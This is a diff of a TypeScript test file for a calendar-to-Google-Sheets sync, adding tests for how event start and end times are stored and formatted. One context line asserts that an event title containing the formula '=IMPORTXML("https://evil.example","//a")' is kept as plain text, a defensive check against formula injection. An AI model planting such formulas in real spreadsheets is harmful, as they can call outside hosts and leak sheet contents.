@@ -2,6 +2,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { runSync } from '../../../shared/sync/run-sync.js';
 import { DEFAULT_RULES } from '../../../shared/classify/rules.js';
 import { createGoogleSheetsSink } from '../../../server/google/sheets-sink.js';
+import { CELL_FIELDS } from '../../../server/google/sheets-cells.js';
 import { FAULTS } from '../../fake-google/faults.js';
 import type { calendar_v3 } from '@googleapis/calendar';
 import { HEADERS, MapCursors, SPREADSHEET_ID, sheetIds, sheetRows, startHarness, type Harness } from './harness.js';
@@ -55,9 +56,9 @@ describe('Google Sheets sink', () => {
       responseIncludeGridData: true,
       responseRanges: ["'Interviews'!1:1", "'Interviews'!A:A"],
       requests: [
-        { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: title }, rows: [{ values: [{ userEnteredValue: { stringValue: 'Final round - Acme' } }] }], fields: 'userEnteredValue' } },
-        { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: column('Event version') }, fields: 'userEnteredValue' } },
-        { appendCells: { sheetId: 1007, fields: 'userEnteredValue' } },
+        { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: title }, rows: [{ values: [{ userEnteredValue: { stringValue: 'Final round - Acme' } }] }], fields: CELL_FIELDS } },
+        { updateCells: { start: { sheetId: 1007, rowIndex: 1, columnIndex: column('Event version') }, fields: CELL_FIELDS } },
+        { appendCells: { sheetId: 1007, fields: CELL_FIELDS } },
       ],
     });
   });
@@ -67,6 +68,33 @@ describe('Google Sheets sink', () => {
     await sync();
     const titleCell = h.book.sheets[1]!.rows[1]![column('Title')];
     expect(titleCell).toEqual({ stringValue: '=IMPORTXML("https://evil.example","//a") interview' });
+  });
+
+  it('stores Start and End as serial numbers of the wall time in the spreadsheet\'s zone, with a date-time format', async () => {
+    put('a');
+    await sync();
+    const row = h.book.sheets[1]!.rows[1]!;
+    const formats = h.book.sheets[1]!.formats[1]!;
+    // 2026-05-04 11:00 in Berlin: 46146 days after 1899-12-30, plus 11/24 of a day.
+    expect([row[column('Start')], formats[column('Start')]]).toEqual([{ numberValue: 46146 + 11 / 24 }, { type: 'DATE_TIME', pattern: 'yyyy-mm-dd hh:mm' }]);
+    expect([row[column('End')], formats[column('End')]]).toEqual([{ numberValue: 46146 + 12 / 24 }, { type: 'DATE_TIME', pattern: 'yyyy-mm-dd hh:mm' }]);
+  });
+
+  it('reads Start and End typed as text (or left as text by an older writer) and rewrites nothing without cause', async () => {
+    put('a');
+    await sync();
+    const row = h.book.sheets[1]!.rows[1]!;
+    row[column('Start')] = { stringValue: '2026-05-04 11:00' };
+    row[column('End')] = { stringValue: '2026-05-04T12:00:00' };
+    put('a', { description: 'agenda changed' });
+    h.fake.google.log.length = 0;
+    await sync();
+    const written = (h.fake.google.requests('sheets')[1]?.body as { requests?: { updateCells?: { start?: { columnIndex?: number } } }[] } | undefined)?.requests ?? [];
+    expect(written.length).toBeGreaterThan(0);
+    expect(written.map((request) => request.updateCells?.start?.columnIndex)).not.toContain(column('Start'));
+    const after = h.book.sheets[1]!.rows[1]!;
+    expect([after[column('Start')], after[column('End')]]).toEqual([{ stringValue: '2026-05-04 11:00' }, { stringValue: '2026-05-04T12:00:00' }]);
+    expect(sheetRows(h.book)[0]).toMatchObject({ Start: '2026-05-04 11:00', End: '2026-05-04T12:00:00' });
   });
 
   it('records times in the spreadsheet\'s zone, and the zone', async () => {
